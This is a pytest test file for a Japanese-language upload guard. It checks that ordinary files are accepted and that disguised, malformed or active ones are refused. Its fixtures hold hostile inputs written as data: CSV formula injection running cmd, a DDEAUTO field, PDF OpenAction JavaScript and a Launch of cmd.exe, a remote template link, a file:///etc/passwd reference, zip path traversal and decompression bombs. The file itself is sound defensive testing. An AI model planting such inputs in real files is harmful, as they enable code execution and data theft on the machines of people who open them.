"""Files from strangers: taken as what they are, refused with what happened, why and what to do."""

import contextlib
import io
import random
import zipfile

import pytest
from pypdf import PdfReader, PdfWriter

from sekisho.documents.uploads.guard import ENDINGS, examine
from sekisho.documents.uploads.refused import Refused
from tests.documents.uploads.files import docx, jpeg, linked, office, packed_objects, pdf, pdf_with, png

MOST = 10 * 1024 * 1024
PAGE = pdf_with(b"")
GOOD = {
    "様式.docx": docx(),
    "写し.pdf": pdf(),
    "白紙.pdf": PAGE,
    "表.xlsx": office("xlsx"),
    "説明.pptx": office("pptx"),
    "画面.png": png(),
    "写真.jpg": jpeg(),
    "写真.JPEG": jpeg(behind=b"\0" * 100),
    "覚書.txt": "オプトアウトの設定を確かめた。\r\n".encode("cp932"),
    "一覧.csv": "\ufeff番号,金額,電話\r\n1,-300,+81-6-0000-0000\r\n2,-,－\r\n".encode(),
}


def refused(name: str, data: bytes, *words: str, most: int = MOST) -> None:
    with pytest.raises(Refused) as said:
        examine(name, data, most)
    assert said.value.next_ja.endswith("。")
    assert said.value.message_ja.startswith(f"「{said.value.name}」を添付できません。")
    for word in words:
        assert word in str(said.value)


@pytest.mark.parametrize("name", GOOD)
def test_takes_ordinary_files_for_what_they_are(name: str) -> None:
    found = examine(name, GOOD[name], MOST)
    assert (found.name, found.media) == (name, ENDINGS[name.rpartition(".")[2].lower()])


@pytest.mark.parametrize(
    ("name", "data", "words"),
    [
        ("空.pdf", b"", "中身のない"),
        ("実行.exe", b"MZ\x90\0", "添付できる種類"),
        ("写し.pdf.exe", PAGE, "添付できる種類"),
        ("頁.html", b"<html>", "添付できる種類"),
        ("絵.svg", b"<svg/>", "添付できる種類"),
        ("ending", PAGE, "添付できる種類"),
        ("マクロ.xlsm", office("xlsx"), "添付できる種類"),
        ("実行.pdf", b"MZ\x90\0" * 50, "PDFとして読めません"),
        ("絵.png", b"GIF89a" + b"\0" * 50, "として読めません"),
        ("図.png", PAGE, "中身はPDFです"),
        ("写し.pdf", png(), "中身は画像（PNG）です"),
        ("表.csv", docx(), "中身はWordです"),
        ("表.xlsx", docx(), "中身はWordです"),
        ("文.docx", "ただの文".encode(), "ファイルではありません"),
        ("古い.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "古い形式"),
        ("実行.txt", b"MZ\0\0\x01\x02", "文字ではない"),
        ("別.txt", "ﾊﾝｶｸ".encode("euc-jp") + b"\x8f\xff", "文字コード"),
    ],
)
def test_refuses_what_it_does_not_know_or_what_is_not_what_it_says(name: str, data: bytes, words: str) -> None:
    refused(name, data, words)


def test_refuses_a_byte_too_many() -> None:
    data = PAGE
    assert examine("写し.pdf", data, len(data)).media == "pdf"
    refused("写し.pdf", data, "大きすぎます", most=len(data) - 1)


MACRO = '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (office(types=MACRO, parts={"word/vbaProject.bin": b"x"}), "マクロ"),
        (office(parts={"word/document2.xml": b"<a>" + b" " * 130_000_000}), "大きくなりすぎ"),
        (office(parts={"word/media/image1.png": png(40_000, 40_000)}), "大きすぎる画像"),
        (office(parts={"word/embeddings/oleObject1.bin": b"MZ"}), "埋め込まれています"),
        (office(parts={"word/embeddings/book.xlsx": b"no zip"}), "ファイルではありません"),
        (office(parts={"word/embeddings/book.xlsx": office("xlsx", {"xl/embeddings/a.xlsx": b""})}), "さらに別の"),
        (office(parts=linked("attachedTemplate", "https://example.test/evil.dotm")), "外のファイル"),
        (office(parts=linked("image", "file:///etc/passwd")), "外のファイル"),
        (office(parts={"word/document3.xml": "<w:instrText>DDEAUTO \"cmd\"</w:instrText>"}), "外のファイル"),
        (office("xlsx", {"xl/externalLinks/externalLink1.xml": "<x:ddeLink/>"}), "外のファイル"),
        (office(parts={"../../etc/passwd": b"x"}), "外の場所を指す"),
        (docx()[:-200], "壊れて"),
    ],
)  # fmt: skip
def test_refuses_office_files_that_act_hide_or_burst(data: bytes, words: str) -> None:
    kind = "表.xlsx" if b"xl/workbook.xml" in data else "様式.docx"
    refused(kind, data, words)


def test_takes_links_that_wait_for_a_click_and_tables_behind_charts() -> None:
    assert examine("a.docx", office(parts=linked("hyperlink", "https://example.test/")), MOST).media == "docx"
    assert examine("a.docx", office(parts={"word/embeddings/book.xlsx": office("xlsx")}), MOST).media == "docx"


SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"


def locked() -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(PAGE)))
    writer.encrypt("secret")
    return written(writer)


def carrying() -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(PAGE)))
    writer.add_attachment("inner.exe", b"MZ")
    return written(writer)


def written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (pdf_with(b"/OpenAction 4 0 R", SCRIPT), "プログラム"),
        (pdf_with(b"/OpenAction 4 0 R", SCRIPT.replace(b"/JavaScript", b"/J#61vaScript")), "プログラム"),
        (pdf_with(b"/OpenAction 9 0 R", packed_objects(SCRIPT)), "プログラム"),
        (pdf_with(b"/OpenAction<</S/Launch/F(cmd.exe)>>"), "プログラム"),
        (pdf_with(b"/AA<</WC<</S/SubmitForm/F(http://x.test)>>>>"), "プログラム"),
        (carrying(), "別のファイル"),
        (locked(), "パスワード"),
        (PAGE.replace(b"[0 0 200 200]", b"[0 0 99999 9]"), "大きさ"),
        (b"%PDF-1.7\n" + b"\0" * 400, "壊れて"),
        (PAGE.replace(b"/Kids[3 0 R]/Count 1", b"/Kids[]/Count 0     "), "壊れて"),
        (PAGE.replace(b"/Count 1", b"/Count 900"), "ページ"),
    ],
)
def test_refuses_pdfs_that_act_hide_or_are_no_use(data: bytes, words: str) -> None:
    refused("写し.pdf", data, words)


@pytest.mark.parametrize(
    ("name", "data", "words"),
    [
        ("画面.png", png(20_000, 20_000), "画素が多すぎ"),
        ("写真.jpg", jpeg(60_000, 60_000), "画素が多すぎ"),
        ("画面.png", png(0, 2), "壊れて"),
        ("画面.png", png()[:-6], "壊れて"),
        ("画面.png", png(behind=b"PK\x03\x04"), "うしろに"),
        ("写真.jpg", jpeg(behind=b"<script>"), "うしろに"),
        ("写真.jpg", jpeg()[:-2], "壊れて"),
    ],
)
def test_refuses_pictures_that_burst_break_or_carry_more(name: str, data: bytes, words: str) -> None:
    refused(name, data, words)


@pytest.mark.parametrize(
    "cell", ["=cmd|' /C calc'!A0", "@SUM(A1)", "+cmd|x", "-2+3+cmd|x!A", "＝SUM(A1)", " =1", "\t=1"]
)
def test_refuses_cells_that_a_spreadsheet_would_run(cell: str) -> None:
    refused("表.csv", f'番号,値\r\n1,"{cell}"\r\n'.encode(), "式として実行")
    assert examine("表.txt", f"{cell}\r\n".encode(), MOST).media == "txt" or "\t" in cell


def test_damaged_files_are_refused_and_nothing_else_happens() -> None:
    """Bytes flipped, cut and repeated: an answer or a refusal, never another exception."""
    chance = random.Random(20261125)
    for name, data in GOOD.items():
        for _ in range(25):
            broken = bytearray(data)
            for _ in range(chance.randint(1, 8)):
                broken[chance.randrange(len(broken))] = chance.randrange(256)
            cut = bytes(broken[: chance.randint(1, len(broken))]) if chance.random() < 0.4 else bytes(broken)
            with contextlib.suppress(Refused):
                assert examine(name, cut, MOST).name == name


def test_a_file_of_thousands_of_parts_takes_no_time() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for number in range(1_900):
            archive.writestr(f"word/media/{number}.png", png())
    with zipfile.ZipFile(io.BytesIO(office())) as least, zipfile.ZipFile(out, "a") as archive:
        for part in least.namelist():
            archive.writestr(part, least.read(part))
    assert examine("多い.docx", out.getvalue(), MOST).media == "docx"
